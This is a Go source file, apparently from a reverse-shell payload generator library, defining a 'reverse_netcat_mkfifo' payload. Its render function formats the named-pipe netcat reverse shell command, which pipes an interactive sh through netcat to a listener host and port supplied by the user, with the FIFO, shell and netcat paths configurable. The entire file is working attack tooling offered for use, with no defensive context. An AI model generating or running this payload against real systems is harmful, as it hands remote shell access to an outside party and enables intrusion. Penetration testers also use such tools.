package unix

import (
	"fmt"

	"github.com/josephlewis42/revshell/core/payload"
)

// ReverseNetcatMkfifo pipes a shell through netcat using a named pipe, for
// netcat builds without -e.
var ReverseNetcatMkfifo = &payload.Generator{
	Name: "reverse_netcat_mkfifo",
	Doc:  "Creates an interactive shell by piping a named pipe through netcat",
	Params: listener(
		payload.Option("nc_path", payload.StringValue("nc")),
		payload.Option("shell_path", payload.StringValue("sh")),
		payload.Option("fifo_path", payload.StringValue("/tmp/f")),
	),
	Render: reverseNetcatMkfifo,
}

func reverseNetcatMkfifo(lhost string, lport int, opts *payload.OptionSet) (string, error) {
	fifo, err := quote(opts.StringOr("fifo_path", "/tmp/f"))
	if err != nil {
		return "", err
	}
	host, err := quote(lhost)
	if err != nil {
		return "", err
	}

	return fmt.Sprintf("rm -f %[1]s;mkfifo %[1]s;cat %[1]s|%[2]s -i 2>&1|%[3]s %[4]s %[5]d >%[1]s",
		fifo,
		opts.StringOr("shell_path", "/bin/sh"),
		opts.StringOr("nc_path", "nc"),
		host,
		lport,
	), nil
}
